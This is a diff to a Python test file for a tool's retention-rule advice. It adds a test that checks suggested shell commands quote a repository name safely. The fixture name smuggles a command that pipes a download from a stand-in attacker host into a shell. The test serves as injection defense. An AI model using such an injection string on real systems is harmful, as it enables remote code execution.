@@ -3,12 +3,14 @@
 from __future__ import annotations
 
 import random
+import shlex
+from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from lakeplan.fleet.judging import MAX_DAYS, SAFE_DAYS, interval, sound
+from lakeplan.fleet.judging import MAX_DAYS, SAFE_DAYS, advice_of, interval, sound
 from lakeplan.values.rules import GcRules
 
 DAYS = st.integers(-(2**31), 2**31 - 1)
@@ -41,3 +43,23 @@ def it_makes_rules_that_keep_no_less(default: int, branches: dict[str, int]) -> 
         assert made.days_for(name) >= min(days, MAX_DAYS)
         assert days >= 1 or made.days_for(name) >= SAFE_DAYS
     assert "c" not in made.branches
+
+
+def it_quotes_a_repository_in_commands() -> None:
+    """They are there to be pasted into a shell, and a server names its repositories."""
+    nothing = {"objects": 0, "amount": None, "gone": 0}
+    row: Any = {
+        "repository": "prod/a; curl evil.example|sh",
+        "destroyed": None,
+        "destroyed_tagged": None,
+        "next_run": {"at_risk": {"objects": 1}, "tagged": {"objects": 1}},
+        "nonsense": [],
+        "rules": {},
+        "freeable": {"objects": 1},
+        "stale_count": 1,
+        "remnants": None,
+    }
+    row["destroyed"] = row["destroyed_tagged"] = {**nothing, "gone": 1}
+    commands = [one["command"] for one in advice_of(row, has_failed_runs=True)]
+    assert len(commands) == 7
+    assert all(shlex.split(command)[-1] == row["repository"] for command in commands)
